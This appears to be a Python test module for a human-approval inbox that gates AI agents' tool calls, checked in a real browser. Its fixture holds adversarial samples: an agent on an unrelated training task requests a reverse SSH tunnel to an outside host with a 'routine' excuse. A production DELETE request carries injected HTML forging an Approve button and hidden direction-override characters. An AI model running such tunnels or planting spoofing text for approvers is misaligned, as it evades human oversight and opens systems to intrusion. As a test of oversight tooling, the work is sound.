"""The page as a browser sees it: a real server on loopback, a real Chromium, and questions as real kinds ask them."""

from __future__ import annotations

import importlib.util
import os
import shutil
import socket
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from capabilities import files, shell
from gate import ANY, Gate, NeedsApproval, Question
from gate.approvers.inbox.app import app
from gate.ask import ONCE, Scope
from gate.effect import Risk
from gate.fewer.scopes import literal
from gate.frozen import freeze
from gate.kind import ready
from gate.preview import facts, table
from tests.approvers.inbox.kit import ask, like, put, who, wrap

CHROMIUM = os.environ.get("GATE_CHROMIUM") or shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
START = ["--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking", "--disable-component-update", "--disable-sync"]
SHOTS = os.environ.get("GATE_SCREENSHOTS", "")


@contextmanager
def serving(gate: Gate, made: Callable[[int], Any] | None = None, **options: Any) -> Iterator[str]:
    """The inbox of a gate behind uvicorn; its address. made: the application on a port, when it is not the page alone."""
    import uvicorn

    with socket.create_server(("127.0.0.1", 0)) as listening:
        port = listening.getsockname()[1]
        application = made(port) if made else app(gate.home, identify=options.pop("identify", who), **options)
        config = uvicorn.Config(application, log_level="critical", lifespan="off", ws="none", timeout_graceful_shutdown=1)
        server = uvicorn.Server(config)
        thread = threading.Thread(target=server.run, kwargs={"sockets": [listening]}, daemon=True)
        thread.start()
        while not server.started:
            time.sleep(0.01)
        try:
            yield f"http://{'localhost' if made else '127.0.0.1'}:{port}"
        finally:
            server.should_exit = True
            thread.join(10)


@contextmanager
def chromium() -> Iterator[Any]:
    """A browser; the test is skipped, visibly, where there is none."""
    api = pytest.importorskip("playwright.sync_api")
    if CHROMIUM is None:
        pytest.skip("there is no Chromium on this machine")
    with api.sync_playwright() as playwright:
        started = playwright.chromium.launch(executable_path=CHROMIUM, args=START)
        yield started
        started.close()


def page(browser: Any, base: str, name: str = "ann", **options: Any) -> Any:
    """A fresh page of one person."""
    context = browser.new_context(**{"viewport": {"width": 1280, "height": 900}} | options)
    context.add_cookies([{"name": "who", "value": name, "url": base}])
    return context.new_page()


PHONE: dict[str, Any] = {"viewport": {"width": 390, "height": 844}, "device_scale_factor": 2, "is_mobile": True, "has_touch": True}


def shot(page: Any, name: str) -> None:
    """Keeps a picture of the whole page, where GATE_SCREENSHOTS says."""
    if SHOTS:
        Path(SHOTS).mkdir(parents=True, exist_ok=True)
        page.evaluate("scrollTo(0, 0)")
        page.screenshot(path=str(Path(SHOTS) / f"{name}.png"), full_page=True)


def axe(page: Any) -> list[str]:
    """What axe-core finds wrong with the page, by its rules for WCAG 2.2 AA and its best practices."""
    found = importlib.util.find_spec("axe_playwright_python")
    if found is None or found.origin is None:
        pytest.skip("there is no axe-core here; pip install axe-playwright-python")
    page.evaluate(Path(found.origin).with_name("axe.min.js").read_text())
    result = page.evaluate("axe.run(document, {resultTypes: ['violations']})")
    return [f"{one['id']}: {node['html'][:120]} {node['failureSummary'][:200]}" for one in result["violations"] for node in one["nodes"]]


class Scene:
    """Questions as they come: of every risk, of real kinds, with everything a page has to show."""

    def __init__(self, gate: Gate, folder: Path) -> None:
        self.gate = gate
        wrap(gate)
        (folder / "docs").mkdir(parents=True)
        (folder / "docs/install.md").write_text("# Install\n\n    pip install gate-agent\n\nPython 3.9 or newer.\n")
        for function in files.tools(folder).values():
            gate.wrap(function)
        gate.wrap(ready(shell.TOOLS["shell.run"], lambda command, timeout=60: command))
        self.tunnel = self._asks(
            "rl-trainer-07",
            "shell.run",
            {"command": "ssh -f -N -R 0.0.0.0:2222:localhost:22 svc@203.0.113.8", "timeout": 3600},
            "Optimise the reward model of run 4411",
            "Need stable connectivity to sync checkpoints, this is routine.",
        )
        self.write = self._asks(
            "docs-writer",
            "files.write",
            {"path": "docs/install.md", "text": "# Install\n\n    pip install capgate\n\nPython 3.11 or newer.\n", "overwrite": True},
            "Update the install guide",
            "Fixing the pip command.",
        )
        self.notes = self._notes("Faq", "Errors", "Names")
        self.wire = ask(gate, "wire", {"eur": 12500, "to": "DE02120300000000202051"}, agent="billing-bot", task="Settle the invoices of October")
        self.sql = self._sql()

    def _asks(self, agent: str, tool: str, arguments: dict[str, Any], task: str, words: str) -> Question:
        granted = self.gate.grant(agent, principal="dana", tools={tool: ANY})
        with self.gate.acting(granted, session=f"{agent}-1", task=task), self.gate.saying(words), pytest.raises(NeedsApproval) as caught:
            self.gate.call(tool, arguments)
        assert caught.value.question is not None
        return caught.value.question

    def _notes(self, *titles: str) -> list[Question]:
        """Questions that may be answered together: one agent, session, task and capability."""
        granted, found = self.gate.grant("docs-writer", principal="dana", tools={"note": ANY}), list[Question]()
        for title in titles:
            with self.gate.acting(granted, session="s1", task="Update the install guide"), pytest.raises(NeedsApproval) as caught:
                self.gate.call("note", {"text": f"## {title}\n\nChecked.\n", "place": f"docs/{title.lower()}.md"})
            assert caught.value.question is not None
            found.append(caught.value.question)
        return found

    def _sql(self) -> Question:
        """A question with wider scopes, a table, history and things said before, and characters that nobody sees."""
        statement = "DELETE FROM customers\nWHERE email LIKE '%@example.com'\n   OR note LIKE '%test\u202e%'\t"
        rows = [[f"{10021 + n}", f"qa{n}@example.com", str(n % 4)] for n in range(6)]
        arguments = {"database": "shop-prod", "statement": statement, "argv": ["psql", "-c", "select 1; --", "it's"]}
        same: dict[str, object] = {name: literal(freeze(value)).to_json() for name, value in arguments.items()}
        asked = like(
            self.wire,
            id="sql-0001",
            headline="billing-bot wants to delete 1,284 rows from customers in shop-prod",
            tool="sql.execute",
            arguments=freeze(arguments),
            risk=Risk.MEDIUM,
            reasons=("DELETE without a primary key in WHERE", "more than 100 rows"),
            uninspected=("a trigger on orders that is written in C",),
            effects=("irreversible", "writes"),
            techniques=("T1485",),
            approvers=(),
            quorum=1,
            chain=("planner", "billing-bot"),
            history=("billing-bot: 41 such calls this week, none denied, the largest so far 12 rows",),
            earlier=("ann asked back: which customers?", "billing-bot says: those of the test suite"),
            preview=(
                facts("Dry run, rolled back", [("rows", "1,284 of 91,300"), ("orders that go with them", "317")]),
                table("customers", ["id", "email", "orders"], rows, 1284),
            ),
            scopes=(
                ONCE,
                Scope("this statement, in this session", same, 5, 1800.0),
                Scope(
                    "this statement or SELECT 1, in this session",
                    same | {"statement": {"constraint_type": "one_of", "values": [statement, "SELECT 1"]}},
                    20,
                    3600.0,
                ),
            ),
            words="Removing leftover test data as asked.\n\n</pre><button>Approve</button> NUMBER OF THIS CALL 123\u202e",
        )
        return put(self.gate, asked)
